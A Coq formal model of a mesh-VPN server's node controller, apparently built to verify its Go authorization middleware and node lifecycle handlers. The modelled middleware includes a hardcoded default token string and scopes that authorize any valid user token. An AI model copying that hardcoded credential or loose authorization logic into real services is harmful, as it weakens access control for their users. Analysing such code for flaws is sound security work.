(** * Node controller of the mesh-VPN server: authorization, node lifecycle,
      relay repair and propagation

    A shallow embedding of [controllers/node.go].  The handlers of that file
    are sequences of calls to collaborators that live in other packages
    ([logic], [functions], [servercfg], [mq], [database], the HTTP response
    writer).  A handler is embedded as a program over those calls; running a
    program against an environment that answers the calls gives its result,
    the final state of the environment and the trace of the calls made, in
    order, with their arguments and answers. *)

From Stdlib Require Import ZArith Ascii String List.
From stdpp Require Import gmap strings list fin_maps.

Local Open Scope string_scope.
Local Open Scope list_scope.
Local Open Scope Z_scope.
Local Open Scope nat_scope.

(** ** Data model

    [models.Node], [models.Network], [models.User] are declared in package
    [models]; the records below carry the fields this file reads or writes.
    Go strings are [string]; the "yes"/"no" flags stay strings as in the
    code; an [error] is [None] for [nil]. *)

Definition error := option string.

Definition is_nil (e : error) : bool :=
  match e with None => true | Some _ => false end.

Record AccessKey := mkAccessKey { Value : string }.

Record Network := mkNetwork {
  NetID : string;
  AccessKeys : list AccessKey;
  AllowManualSignUp : string;
  NodesLastModified : Z
}.

(** [[]byte] keys: [None] is the nil slice, [nil_key k] is [k == nil]. *)
Record TrafficKeys := mkTrafficKeys {
  Mine : option string;
  Server : option string
}.

Definition nil_key (k : option string) : bool :=
  match k with None => true | Some _ => false end.

Record Node := mkNode {
  ID : string;
  Name : string;
  Network_ : string;            (* field Network *)
  Address : string;
  Address6 : string;
  Password : string;
  AccessKey_ : string;          (* field AccessKey *)
  IsServer : string;
  IsPending : string;
  IsRelay : string;
  IsRelayed : string;
  RelayAddrs : list string;
  PostUp : string;
  PostDown : string;
  Action : string;
  TrafficKeys_ : TrafficKeys;   (* field TrafficKeys *)
  NetworkSettings : Network;
  OtherFields : list (string * string)  (* the attributes this file never names *)
}.

Record User := mkUser {
  UserName : string;
  Networks : list string;
  IsAdmin : bool
}.

Record PeerUpdate := mkPeerUpdate { Peers : list string }.

Record NodeGet := mkNodeGet {
  NG_Node : Node;
  NG_Peers : list string;
  NG_ServerConfig : string
}.

Definition NODE_DELETE : string := "delete".

Definition zeroNetwork : Network := mkNetwork "" [] "" 0%Z.
Definition zeroNode : Node :=
  mkNode "" "" "" "" "" "" "" "" "" "" "" [] "" "" "" (mkTrafficKeys None None)
         zeroNetwork [].
Definition zeroUser : User := mkUser "" [] false.

(** Field updates written the way the code assigns them. *)
Definition set_Network (v : string) (n : Node) : Node :=
  mkNode (ID n) (Name n) v (Address n) (Address6 n) (Password n) (AccessKey_ n)
         (IsServer n) (IsPending n) (IsRelay n) (IsRelayed n) (RelayAddrs n)
         (PostUp n) (PostDown n) (Action n) (TrafficKeys_ n) (NetworkSettings n)
         (OtherFields n).
Definition set_IsPending (v : string) (n : Node) : Node :=
  mkNode (ID n) (Name n) (Network_ n) (Address n) (Address6 n) (Password n)
         (AccessKey_ n) (IsServer n) v (IsRelay n) (IsRelayed n) (RelayAddrs n)
         (PostUp n) (PostDown n) (Action n) (TrafficKeys_ n) (NetworkSettings n)
         (OtherFields n).
Definition set_RelayAddrs (v : list string) (n : Node) : Node :=
  mkNode (ID n) (Name n) (Network_ n) (Address n) (Address6 n) (Password n)
         (AccessKey_ n) (IsServer n) (IsPending n) (IsRelay n) (IsRelayed n) v
         (PostUp n) (PostDown n) (Action n) (TrafficKeys_ n) (NetworkSettings n)
         (OtherFields n).
Definition set_PostUp (v : string) (n : Node) : Node :=
  mkNode (ID n) (Name n) (Network_ n) (Address n) (Address6 n) (Password n)
         (AccessKey_ n) (IsServer n) (IsPending n) (IsRelay n) (IsRelayed n)
         (RelayAddrs n) v (PostDown n) (Action n) (TrafficKeys_ n)
         (NetworkSettings n) (OtherFields n).
Definition set_PostDown (v : string) (n : Node) : Node :=
  mkNode (ID n) (Name n) (Network_ n) (Address n) (Address6 n) (Password n)
         (AccessKey_ n) (IsServer n) (IsPending n) (IsRelay n) (IsRelayed n)
         (RelayAddrs n) (PostUp n) v (Action n) (TrafficKeys_ n)
         (NetworkSettings n) (OtherFields n).
Definition set_Action (v : string) (n : Node) : Node :=
  mkNode (ID n) (Name n) (Network_ n) (Address n) (Address6 n) (Password n)
         (AccessKey_ n) (IsServer n) (IsPending n) (IsRelay n) (IsRelayed n)
         (RelayAddrs n) (PostUp n) (PostDown n) v (TrafficKeys_ n)
         (NetworkSettings n) (OtherFields n).
Definition set_TrafficKeys (v : TrafficKeys) (n : Node) : Node :=
  mkNode (ID n) (Name n) (Network_ n) (Address n) (Address6 n) (Password n)
         (AccessKey_ n) (IsServer n) (IsPending n) (IsRelay n) (IsRelayed n)
         (RelayAddrs n) (PostUp n) (PostDown n) (Action n) v (NetworkSettings n)
         (OtherFields n).
Definition set_NetworkSettings (v : Network) (n : Node) : Node :=
  mkNode (ID n) (Name n) (Network_ n) (Address n) (Address6 n) (Password n)
         (AccessKey_ n) (IsServer n) (IsPending n) (IsRelay n) (IsRelayed n)
         (RelayAddrs n) (PostUp n) (PostDown n) (Action n) (TrafficKeys_ n) v
         (OtherFields n).

(** ** HTTP values *)

Definition StatusOK : Z := 200%Z.
Definition StatusBadRequest : Z := 400%Z.
Definition StatusUnauthorized : Z := 401%Z.
Definition StatusNotFound : Z := 404%Z.
Definition StatusInternalServerError : Z := 500%Z.

(** An error answer is either a [models.ErrorResponse] literal of this file,
    or the result of the package helper [formatError(err, errType)], which is
    declared in another file of the package and is kept as the pair of its
    arguments. *)
Inductive ErrorResponse :=
| ErrorResponseLit (Code : Z) (Message : string)
| formatError (err : error) (errType : string).

(** Request: the header map and the route variables of [mux.Vars].  A Go map
    read at a missing key gives the zero value. *)
Record Request := mkRequest {
  Header : gmap string string;
  Vars : gmap string string
}.

Definition Get (m : gmap string string) (k : string) : string :=
  default "" (m !! k).

Definition HeaderSet (k v : string) (r : Request) : Request :=
  mkRequest (<[k := v]> (Header r)) (Vars r).

(** JSON bodies written with [json.NewEncoder(w).Encode]. *)
Inductive Body :=
| BodyNodes (l : list Node)
| BodyNode (n : Node)
| BodyNodeGet (g : NodeGet)
| BodyString (s : string)
| BodyInt (z : Z).

(** [strings.Split(s, sep)] for a one-character separator: the pieces between
    the separators, in order; no separator gives the one-element list. *)
Fixpoint SplitOn (sep : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c s' =>
      if Ascii.eqb c sep then EmptyString :: SplitOn sep s'
      else match SplitOn sep s' with
           | [] => [String c EmptyString]
           | h :: t => String c h :: t
           end
  end.

Definition Split (s : string) : list string := SplitOn " "%char s.

(** Modelled from the spec: [logic.StringSliceContains] is declared in package
    [logic]; section 4.2 step 4 reads it as "user's network list contains
    path network". *)
Definition StringSliceContains (l : list string) (s : string) : bool :=
  existsb (String.eqb s) l.

(** ** Background tasks

    [runUpdates] and [runForceServerUpdate] start a goroutine and return.  A
    started goroutine is recorded as a task, with the node value its pointer
    holds when the [go] statement runs. *)
Inductive Task :=
| TaskRunUpdates (node : Node) (ifaceDelta : bool)
| TaskRunForceServerUpdate (node : Node).

(** ** Calls to collaborators

    One constructor per collaborator function the embedded handlers call; the
    index is the type of what the call gives back, a pair where Go returns a
    value and an error.  [CreateNode] and [UpdateNode] receive
    [*models.Node] and the handlers go on using the node afterwards, so these
    two give the node back as they leave it; the other collaborators are
    taken to read the node they are given.  [logger.Log] calls write a log
    line only and are not embedded. *)
Inductive Call : Type -> Type :=
(* package functions *)
| NetworkExists (name : string) : Call (bool * error)
(* package logic *)
| VerifyToken (tok : string) : Call (string * string * string * error)
| VerifyUserToken (tok : string) : Call (string * list string * bool * error)
| GetNodeByID (id : string) : Call (Node * error)
| GetUser (name : string) : Call (User * error)
| GetAllNodes : Call (list Node * error)
| GetNetworkNodes (net : string) : Call (list Node * error)
| GetNetworkByNode (n : Node) : Call (Network * error)
| GetNetworkSettings (net : string) : Call (Network * error)
| IsKeyValid (net key : string) : Call bool
| RetrievePublicTrafficKey : Call (option string * error)
| CreateNode (n : Node) : Call (Node * error)
| GetPeerUpdate (n : Node) : Call (PeerUpdate * error)
| IfaceDelta (cur new : Node) : Call bool
| UpdateNode (cur new : Node) : Call (Node * Node * error)
| UpdateNodeNil : Call error        (* logic.UpdateNode(nil, nil) *)
| UpdateRelay (net : string) (old new : list string) : Call (list Node)
| NetworkNodesUpdatePullChanges (net : string) : Call error
| FindRelay (n : Node) : Call (option (Node * nat))
| SetDNS : Call error
| DeleteNodeByID (n : Node) (exterminate : bool) : Call error
| GetNetworkServerLocal (net : string) : Call (Node * error)
| GetNetworkServerLeader (net : string) : Call (Node * error)
| IsLeader (n : Node) : Call bool
| ServerUpdate (n : Node) (ifaceDelta : bool) : Call error
(* package database *)
| IsEmptyRecord (e : error) : Call bool
(* package servercfg *)
| GetServerInfo : Call string
| GetRce : Call bool
| IsDNSMode : Call bool
| IsClientMode : Call string
(* package mq *)
| NodeUpdate (n : Node) : Call error
| PublishPeerUpdate (n : Node) : Call error
(* the request body and the response writer *)
| DecodeNode : Call (Node * error)
| SetResponseHeader (k v : string) : Call unit
| WriteHeader (code : Z) : Call unit
| Encode (b : Body) : Call unit
| ReturnErrorResponse (e : ErrorResponse) : Call unit
| ReturnSuccessResponse (msg : string) : Call unit
| ServeNext (r : Request) : Call unit   (* next.ServeHTTP(w, r) *)
(* go func() { ... }() *)
| Go (t : Task) : Call unit.

(** [FindRelay] returns a pointer: [None] is [nil]; otherwise the relay's
    record together with the spare capacity (cap - len) of the backing array
    of its [RelayAddrs] slice. *)

(** ** Programs over calls *)

Inductive Prog (A : Type) : Type :=
| Ret (a : A)
| Panic (msg : string)
| Vis {X : Type} (c : Call X) (k : X -> Prog A).

Arguments Ret {A} a.
Arguments Panic {A} msg.
Arguments Vis {A X} c k.

Fixpoint bind {A B : Type} (p : Prog A) (f : A -> Prog B) : Prog B :=
  match p with
  | Ret a => f a
  | Panic msg => Panic msg
  | Vis c k => Vis c (fun x => bind (k x) f)
  end.

#[export] Instance Prog_ret : MRet Prog := @Ret.
#[export] Instance Prog_bind : MBind Prog := fun A B f p => bind p f.

Definition call {X : Type} (c : Call X) : Prog X := Vis c Ret.

(** A call whose answer the code drops (or only logs). *)
Definition call_ {X : Type} (c : Call X) : Prog unit := Vis c (fun _ => Ret tt).

Definition skip : Prog unit := Ret tt.

(** An environment answers a call in a state and gives the next state. *)
Definition Env (W : Type) : Type := forall X : Type, Call X -> W -> X * W.

Inductive Event : Type :=
| Ev {X : Type} (c : Call X) (x : X).

Record Outcome (W A : Type) := mkOutcome {
  result : option A;     (* None: the program panicked *)
  final : W;
  trace : list Event
}.
Arguments mkOutcome {W A}.
Arguments result {W A}.
Arguments final {W A}.
Arguments trace {W A}.

Fixpoint run {W A : Type} (env : Env W) (p : Prog A) (w : W) : Outcome W A :=
  match p with
  | Ret a => mkOutcome (Some a) w []
  | Panic _ => mkOutcome None w []
  | Vis c k =>
      let '(x, w') := env _ c w in
      let o := run env (k x) w' in
      mkOutcome (result o) (final o) (Ev c x :: trace o)
  end.

(** A call to one of the two token verifiers. *)
Definition is_credential_check (e : Event) : bool :=
  match e with
  | Ev c _ =>
      match c with
      | VerifyToken _ | VerifyUserToken _ => true
      | _ => false
      end
  end.

(** ** The authorization middleware ([authorize], lines 169-291) *)

Definition unauthorized (msg : string) : Prog unit :=
  call (ReturnErrorResponse (ErrorResponseLit StatusUnauthorized msg)).

(** Lines 275-288: the verdict. *)
Definition authorize_verdict (isAuthorized : bool) (username : string)
    (r : Request) : Prog unit :=
  if negb isAuthorized then
    unauthorized "W1R3: You are unauthorized to access this endpoint."
  else
    let username :=
      if String.eqb username "" then "(user not found)" else username in
    let r := HeaderSet "user" username r in
    call (ServeNext r).

(** Lines 216-274: the user token and the scope switch. *)
Definition authorize_user (authNetwork : string) (r : Request)
    (authToken : string) : Prog unit :=
  let params := Vars r in
  let isAuthorized := false in
  let nodeID := "" in
  '(username, networks, isadmin, errN) ← call (VerifyUserToken authToken);
  if negb (is_nil errN) then
    unauthorized "W1R3: Unauthorized, Invalid Token Processed."
  else
    let isnetadmin := isadmin in
    let '(nodeID, isAuthorized, r) :=
      if is_nil errN && isadmin
      then ("mastermac", true, HeaderSet "ismasterkey" "yes" r)
      else (nodeID, isAuthorized, r) in
    let isnetadmin :=
      if negb isadmin && negb (String.eqb (Get params "network") "") then
        if StringSliceContains networks (Get params "network")
        then true else isnetadmin
      else isnetadmin in
    if String.eqb nodeID "mastermac" then
      let isAuthorized := true in
      let r := HeaderSet "ismasterkey" "yes" r in
      authorize_verdict isAuthorized username r
    else if String.eqb authNetwork "all" then
      authorize_verdict true username r
    else if String.eqb authNetwork "nodes" then
      authorize_verdict (negb (String.eqb nodeID "") || isnetadmin) username r
    else if String.eqb authNetwork "network" then
      if isnetadmin then authorize_verdict true username r
      else
        '(node, err) ← call (GetNodeByID nodeID);
        if negb (is_nil err) then unauthorized "W1R3: Missing Auth Token."
        else
          authorize_verdict
            (String.eqb (Network_ node) (Get params "network")) username r
    else if String.eqb authNetwork "node" then
      if isnetadmin then authorize_verdict true username r
      else authorize_verdict (String.eqb nodeID (Get params "netid")) username r
    else if String.eqb authNetwork "user" then
      authorize_verdict true username r
    else
      authorize_verdict false username r.

Definition authorize (nodesAllowed networkCheck : bool) (authNetwork : string)
    (r : Request) : Prog unit :=
  let params := Vars r in
  '(networkexists, _) ← call (NetworkExists (Get params "network"));
  if networkCheck && negb networkexists then
    call (ReturnErrorResponse
            (ErrorResponseLit StatusNotFound "W1R3: This network does not exist. "))
  else
    call (SetResponseHeader "Content-Type" "application/json");;
    let bearerToken := Get (Header r) "Authorization" in
    let tokenSplit := Split bearerToken in
    let authToken := "928rt238tghgwe@TY@$Y@#WQAEGB2FC#@HG#@$Hddd" in
    if 1 <? length tokenSplit then
      let authToken := nth 1 tokenSplit "" in
      if nodesAllowed then
        '(_, _, _, err) ← call (VerifyToken authToken);
        if is_nil err then call (ServeNext r)
        else authorize_user authNetwork r authToken
      else authorize_user authNetwork r authToken
    else
      unauthorized "W1R3: Missing Auth Token.".

(** The routes of [nodeHandlers] that use [authorize]: nodesAllowed,
    networkCheck, scope. *)
Definition routes : list (string * string * (bool * bool * string)) :=
  [ ("GET", "/api/nodes", (false, false, "user"));
    ("GET", "/api/nodes/{network}", (false, true, "network"));
    ("GET", "/api/nodes/{network}/{nodeid}", (true, true, "node"));
    ("PUT", "/api/nodes/{network}/{nodeid}", (false, true, "node"));
    ("DELETE", "/api/nodes/{network}/{nodeid}", (true, true, "node"));
    ("POST", "/api/nodes/{network}/{nodeid}/createrelay", (false, true, "user"));
    ("DELETE", "/api/nodes/{network}/{nodeid}/deleterelay", (false, true, "user"));
    ("POST", "/api/nodes/{network}/{nodeid}/creategateway", (false, true, "user"));
    ("DELETE", "/api/nodes/{network}/{nodeid}/deletegateway", (false, true, "user"));
    ("POST", "/api/nodes/{network}/{nodeid}/approve", (false, true, "user"));
    ("GET", "/api/nodes/adm/{network}/lastmodified", (false, true, "network")) ].

(** ** Propagation ([runUpdates], [runServerUpdate], [runForceServerUpdate],
       lines 711-766) *)

Definition isServer (node : Node) : bool := String.eqb (IsServer node) "yes".

Definition runServerUpdate (node : Node) (ifaceDelta : bool) : Prog error :=
  mode ← call IsClientMode;
  if negb (String.eqb mode "on") || negb (isServer node) then mret None
  else
    '(currentServerNode, err) ← call (GetNetworkServerLocal (Network_ node));
    if negb (is_nil err) then mret err
    else
      (if ifaceDelta then
         leader ← call (IsLeader currentServerNode);
         if leader : bool then call_ (PublishPeerUpdate currentServerNode)
         else skip
       else skip : Prog unit);;
      err ← call (ServerUpdate currentServerNode ifaceDelta);
      if negb (is_nil err) then mret err else mret None.

(** The bodies of the two goroutines. *)
Definition runUpdates_body (node : Node) (ifaceDelta : bool) : Prog unit :=
  call_ (NodeUpdate node);;
  runServerUpdate node ifaceDelta;;
  skip.

Definition runForceServerUpdate_body (node : Node) : Prog unit :=
  call_ (PublishPeerUpdate node);;
  '(currentServerNode, getErr) ← call (GetNetworkServerLeader (Network_ node));
  if is_nil getErr then call_ (ServerUpdate currentServerNode false)
  else skip.

Definition task_body (t : Task) : Prog unit :=
  match t with
  | TaskRunUpdates node ifaceDelta => runUpdates_body node ifaceDelta
  | TaskRunForceServerUpdate node => runForceServerUpdate_body node
  end.

Definition runUpdates (node : Node) (ifaceDelta : bool) : Prog unit :=
  call (Go (TaskRunUpdates node ifaceDelta)).

Definition runForceServerUpdate (node : Node) : Prog unit :=
  call (Go (TaskRunForceServerUpdate node)).

Fixpoint for_each {A : Type} (l : list A) (f : A -> Prog unit) : Prog unit :=
  match l with
  | [] => skip
  | x :: l' => f x;; for_each l' f
  end.

(** ** Listing nodes ([getAllNodes], [getUsersNodes], lines 316-354) *)

Fixpoint getUsersNodes_range (networks : list string) (nodes : list Node)
    : Prog (list Node) :=
  match networks with
  | [] => mret nodes
  | networkName :: rest =>
      '(tmpNodes, err) ← call (GetNetworkNodes networkName);   (* err shadows *)
      if negb (is_nil err) then getUsersNodes_range rest nodes
      else getUsersNodes_range rest (nodes ++ tmpNodes)
  end.

Definition getUsersNodes (user : User) : Prog (list Node * error) :=
  let nodes : list Node := [] in
  let err : error := None in
  nodes ← getUsersNodes_range (Networks user) nodes;
  mret (nodes, err).

Definition getAllNodes (r : Request) : Prog unit :=
  call (SetResponseHeader "Content-Type" "application/json");;
  '(user, err) ← call (GetUser (Get (Header r) "user"));
  if negb (is_nil err) && negb (String.eqb (Get (Header r) "ismasterkey") "yes")
  then call (ReturnErrorResponse (formatError err "internal"))
  else
    '(nodes, err) ←
      (if IsAdmin user || String.eqb (Get (Header r) "ismasterkey") "yes"
       then call GetAllNodes
       else getUsersNodes user);
    if negb (is_nil err)
    then call (ReturnErrorResponse (formatError err "internal"))
    else
      call (WriteHeader StatusOK);;
      call (Encode (BodyNodes nodes)).

(** ** Registration ([createNode], lines 405-505) *)

(** Lines 462-504: the traffic keys, persistence and the answer.  [err] is the
    handler's error variable, which the three traffic-key failures pass to
    [formatError]. *)
Definition createNode_register (err : error) (node : Node) : Prog unit :=
  '(key, keyErr) ← call RetrievePublicTrafficKey;
  if negb (is_nil keyErr) then
    call (ReturnErrorResponse (formatError err "internal"))
  else if nil_key key then
    call (ReturnErrorResponse (formatError err "internal"))
  else if nil_key (Mine (TrafficKeys_ node)) then
    call (ReturnErrorResponse (formatError err "internal"))
  else
    let node :=
      set_TrafficKeys (mkTrafficKeys (Mine (TrafficKeys_ node)) key) node in
    '(node, err) ← call (CreateNode node);
    if negb (is_nil err) then
      call (ReturnErrorResponse (formatError err "internal"))
    else
      '(peerUpdate, err) ← call (GetPeerUpdate node);
      empty ← (if negb (is_nil err) then call (IsEmptyRecord err)
               else mret true);
      if negb (is_nil err) && negb empty then
        call (ReturnErrorResponse (formatError err "internal"))
      else
        info ← call GetServerInfo;
        let response := mkNodeGet node (Peers peerUpdate) info in
        call (WriteHeader StatusOK);;
        call (Encode (BodyNodeGet response));;
        runForceServerUpdate node.

(** Lines 448-461: the access-key gate; [None] is the unauthorized exit. *)
Definition access_key_gate (validKey : bool) (network : Network) (node : Node)
    : option Node :=
  if negb validKey then
    if String.eqb (AllowManualSignUp network) "yes"
    then Some (set_IsPending "yes" node)
    else None
  else Some node.

Definition createNode (r : Request) : Prog unit :=
  call (SetResponseHeader "Content-Type" "application/json");;
  let params := Vars r in
  let networkName := Get params "network" in
  '(networkexists, err) ← call (NetworkExists networkName);
  if negb (is_nil err) then
    call (ReturnErrorResponse (formatError err "internal"))
  else if negb networkexists then
    call (ReturnErrorResponse
            (ErrorResponseLit StatusNotFound "W1R3: Network does not exist! "))
  else
    '(node, err) ← call DecodeNode;
    if negb (is_nil err) then
      call (ReturnErrorResponse (formatError err "internal"))
    else
      let node := set_Network networkName node in
      '(network, err) ← call (GetNetworkByNode node);
      if negb (is_nil err) then
        call (ReturnErrorResponse (formatError err "internal"))
      else
        '(settings, err) ← call (GetNetworkSettings (Network_ node));
        let node := set_NetworkSettings settings node in
        if negb (is_nil err) then
          call (ReturnErrorResponse (formatError err "internal"))
        else
          validKey ← call (IsKeyValid networkName (AccessKey_ node));
          match access_key_gate validKey network node with
          | None =>
              call (ReturnErrorResponse
                      (ErrorResponseLit StatusUnauthorized
                         "W1R3: Key invalid, or none provided."))
          | Some node => createNode_register err node
          end.

(** ** Deletion ([deleteNode], lines 680-709) *)

Definition deleteNode (r : Request) : Prog unit :=
  call (SetResponseHeader "Content-Type" "application/json");;
  let params := Vars r in
  let nodeid := Get params "nodeid" in
  '(node, err) ← call (GetNodeByID nodeid);
  if negb (is_nil err) then
    call (ReturnErrorResponse (formatError err "badrequest"))
  else if isServer node then
    call (ReturnErrorResponse
            (formatError (Some "cannot delete server node") "badrequest"))
  else
    let node := set_Action NODE_DELETE node in
    err ← call (DeleteNodeByID node false);
    if negb (is_nil err) then
      call (ReturnErrorResponse (formatError err "internal"))
    else
      call (ReturnSuccessResponse (String.append nodeid " deleted."));;
      runUpdates node false;;
      runForceServerUpdate node.

(** ** Go slices and the relay object ([updateRelay], lines 768-790)

    [relay] and [newrelay] are pointers ([newrelay := relay] copies the
    pointer, and both are passed where [logic.UpdateNode] takes
    [*models.Node]), so they name one node object, and the slice expressions
    of the two loops share one backing array with the [range] header.  Memory
    holds the backing arrays and the node objects by address; a failed
    operation ([None]) is a run-time panic. *)

Record slice := mkSlice {
  s_ptr : nat;    (* address of the backing array *)
  s_off : nat;    (* index of element 0 in the array *)
  s_len : nat;
  s_cap : nat
}.

Record Mem := mkMem {
  arrays : list (list string);
  objs : list (Node * slice)   (* node objects; the slice is field RelayAddrs *)
}.

Definition load_RelayAddrs (m : Mem) (p : option nat) : option slice :=
  a ← p; o ← objs m !! a; Some o.2.

Definition store_RelayAddrs (m : Mem) (p : option nat) (s : slice) : option Mem :=
  a ← p; o ← objs m !! a;
  Some (mkMem (arrays m) (<[a := (o.1, s)]> (objs m))).

(** [s[i]] *)
Definition index (m : Mem) (s : slice) (i : nat) : option string :=
  if i <? s_len s then a ← arrays m !! s_ptr s; a !! (s_off s + i)
  else None.

(** [s[:hi]] and [s[lo:]] *)
Definition slice_to (s : slice) (hi : nat) : option slice :=
  if hi <=? s_cap s then Some (mkSlice (s_ptr s) (s_off s) hi (s_cap s))
  else None.

Definition slice_from (s : slice) (lo : nat) : option slice :=
  if lo <=? s_len s
  then Some (mkSlice (s_ptr s) (s_off s + lo) (s_len s - lo) (s_cap s - lo))
  else None.

Definition elems (m : Mem) (s : slice) : option (list string) :=
  a ← arrays m !! s_ptr s; Some (take (s_len s) (drop (s_off s) a)).

Definition write_at (a : list string) (pos : nat) (xs : list string)
    : list string :=
  take pos a ++ xs ++ drop (pos + length xs) a.

(** [append(s, xs...)]: in place when the capacity allows, otherwise into a
    new array (any capacity that holds the result is allowed; twice the old
    one is taken here). *)
Definition append_elems (m : Mem) (s : slice) (xs : list string)
    : option (slice * Mem) :=
  let n := s_len s + length xs in
  if n <=? s_cap s then
    a ← arrays m !! s_ptr s;
    Some (mkSlice (s_ptr s) (s_off s) n (s_cap s),
          mkMem (<[s_ptr s := write_at a (s_off s + s_len s) xs]> (arrays m))
                (objs m))
  else
    old ← elems m s;
    let newcap := Nat.max n (2 * s_cap s) in
    Some (mkSlice (length (arrays m)) 0 n newcap,
          mkMem (arrays m ++ [old ++ xs ++ replicate (newcap - n) ""])
                (objs m)).

(** [append(s, t...)]: the elements of [t] are read before any is written
    (the copy is a memmove). *)
Definition append (m : Mem) (s t : slice) : option (slice * Mem) :=
  xs ← elems m t; append_elems m s xs.

(** One pass of [for i, ip := range newrelay.RelayAddrs { if ip == key {...} }]
    over the indices [idx] of the header [hdr] taken when the loop starts.  The
    tail is sliced from [src.RelayAddrs] and the result is stored in
    [dst.RelayAddrs]. *)
Fixpoint splice_range (src dst : option nat) (key value : string)
    (hdr : slice) (idx : list nat) (m : Mem) : option Mem :=
  match idx with
  | [] => Some m
  | i :: idx' =>
      ip ← index m hdr i;
      m ← (if String.eqb ip key then
             d ← load_RelayAddrs m dst;
             a ← slice_to d i;
             s ← load_RelayAddrs m src;
             b ← slice_from s (i + 1);
             '(r, m) ← append m a b;
             m ← store_RelayAddrs m dst r;
             d ← load_RelayAddrs m dst;
             '(r, m) ← append_elems m d [value];
             store_RelayAddrs m dst r
           else Some m);
      splice_range src dst key value hdr idx' m
  end.

Definition splice_loop (src dst : option nat) (key value : string) (m : Mem)
    : option Mem :=
  hdr ← load_RelayAddrs m dst;
  splice_range src dst key value hdr (seq 0 (s_len hdr)) m.

(** Lines 772-788 on the memory. *)
Definition updateRelay_mem (relay newrelay : option nat)
    (oldnode newnode : Node) (m : Mem) : option Mem :=
  m ← (if negb (String.eqb (Address oldnode) (Address newnode))
       then splice_loop relay newrelay (Address oldnode) (Address newnode) m
       else Some m);
  if negb (String.eqb (Address6 oldnode) (Address6 newnode))
  then splice_loop newrelay newrelay (Address oldnode) (Address6 newnode) m
  else Some m.

(** The object [logic.FindRelay] points to, placed in a fresh memory. *)
Definition found_relay (found : option (Node * nat)) : Mem * option nat :=
  match found with
  | None => (mkMem [] [], None)
  | Some (n, spare) =>
      let len := length (RelayAddrs n) in
      (mkMem [RelayAddrs n ++ replicate spare ""]
             [(n, mkSlice 0 0 len (len + spare))],
       Some 0)
  end.

(** The node a pointer names, read out of the memory. *)
Definition deref (m : Mem) (p : option nat) : option Node :=
  a ← p; o ← objs m !! a; l ← elems m o.2; Some (set_RelayAddrs l o.1).

Definition updateRelay (oldnode newnode : Node) : Prog unit :=
  found ← call (FindRelay oldnode);
  let '(m, relay) := found_relay found in
  let newrelay := relay in
  match updateRelay_mem relay newrelay oldnode newnode m with
  | None => Panic "invalid memory address or nil pointer dereference"
  | Some m =>
      match deref m relay, deref m newrelay with
      | Some rl, Some nr => call_ (UpdateNode rl nr)
      | _, _ => call_ UpdateNodeNil
      end
  end.

(** ** Update ([updateNode], lines 606-678) *)

Fixpoint relay_addrs_range (i : nat) (newAddrs oldAddrs : list string)
    (relayupdate : bool) : bool :=
  match newAddrs with
  | [] => relayupdate
  | addr :: rest =>
      let relayupdate :=
        if negb (String.eqb addr (nth i oldAddrs "")) then true
        else relayupdate in
      relay_addrs_range (S i) rest oldAddrs relayupdate
  end.

Definition updateNode (r : Request) : Prog unit :=
  call (SetResponseHeader "Content-Type" "application/json");;
  let params := Vars r in
  '(node, err) ← call (GetNodeByID (Get params "nodeid"));
  if negb (is_nil err) then
    call (ReturnErrorResponse (formatError err "internal"))
  else
    '(newNode, err) ← call DecodeNode;
    if negb (is_nil err) then
      call (ReturnErrorResponse (formatError err "badrequest"))
    else
      let relayupdate := false in
      let relayupdate :=
        if String.eqb (IsRelay node) "yes" && (0 <? length (RelayAddrs newNode))
        then
          if negb (length (RelayAddrs newNode) =? length (RelayAddrs node))
          then true
          else relay_addrs_range 0 (RelayAddrs newNode) (RelayAddrs node)
                 relayupdate
        else relayupdate in
      let relayedUpdate :=
        String.eqb (IsRelayed node) "yes"
        && (negb (String.eqb (Address node) (Address newNode))
            || negb (String.eqb (Address6 node) (Address6 newNode))) in
      rce ← call GetRce;
      let newNode :=
        if negb rce
        then set_PostUp (PostUp node) (set_PostDown (PostDown node) newNode)
        else newNode in
      ifaceDelta ← call (IfaceDelta node newNode);
      '(node, newNode, err) ← call (UpdateNode node newNode);
      if negb (is_nil err) then
        call (ReturnErrorResponse (formatError err "internal"))
      else
        (if relayupdate : bool then
           updatenodes ← call (UpdateRelay (Network_ node) (RelayAddrs node)
                                 (RelayAddrs newNode));
           call_ (NetworkNodesUpdatePullChanges (Network_ node));;
           if 0 <? length updatenodes
           then for_each updatenodes (fun relayedNode => runUpdates relayedNode false)
           else skip
         else skip : Prog unit);;
        (if relayedUpdate then updateRelay node newNode else skip);;
        dns ← call IsDNSMode;
        (if dns : bool then call_ SetDNS else skip);;
        call (WriteHeader StatusOK);;
        call (Encode (BodyNode newNode));;
        runUpdates newNode ifaceDelta.

(** * Vocabulary of the statements and example environments *)

(** ** Environments

    [zero_answer] answers every call with Go zero values and nil errors; the
    example environments below override single collaborators. *)

Definition zero_answer {X : Type} (c : Call X) : X :=
  match c in Call X return X with
  | NetworkExists _ => (false, None)
  | VerifyToken _ => ("", "", "", None)
  | VerifyUserToken _ => ("", [], false, None)
  | GetNodeByID _ => (zeroNode, None)
  | GetUser _ => (zeroUser, None)
  | GetAllNodes => ([], None)
  | GetNetworkNodes _ => ([], None)
  | GetNetworkByNode _ => (zeroNetwork, None)
  | GetNetworkSettings _ => (zeroNetwork, None)
  | IsKeyValid _ _ => false
  | RetrievePublicTrafficKey => (None, None)
  | CreateNode n => (n, None)
  | GetPeerUpdate _ => (mkPeerUpdate [], None)
  | IfaceDelta _ _ => false
  | UpdateNode cur new => (cur, new, None)
  | UpdateNodeNil => None
  | UpdateRelay _ _ _ => []
  | NetworkNodesUpdatePullChanges _ => None
  | FindRelay _ => None
  | SetDNS => None
  | DeleteNodeByID _ _ => None
  | GetNetworkServerLocal _ => (zeroNode, None)
  | GetNetworkServerLeader _ => (zeroNode, None)
  | IsLeader _ => false
  | ServerUpdate _ _ => None
  | IsEmptyRecord _ => false
  | GetServerInfo => ""
  | GetRce => false
  | IsDNSMode => false
  | IsClientMode => ""
  | NodeUpdate _ => None
  | PublishPeerUpdate _ => None
  | DecodeNode => (zeroNode, None)
  | SetResponseHeader _ _ => tt
  | WriteHeader _ => tt
  | Encode _ => tt
  | ReturnErrorResponse _ => tt
  | ReturnSuccessResponse _ => tt
  | ServeNext _ => tt
  | Go _ => tt
  end.

Definition stateless (f : forall X : Type, Call X -> X) : Env unit :=
  fun X c w => (f X c, w).

(** ** Reading traces

    Each reader keeps the events of one kind, in order. *)

Definition on_ServeNext (e : Event) : option Request :=
  match e with
  | Ev c _ => match c with ServeNext r => Some r | _ => None end
  end.

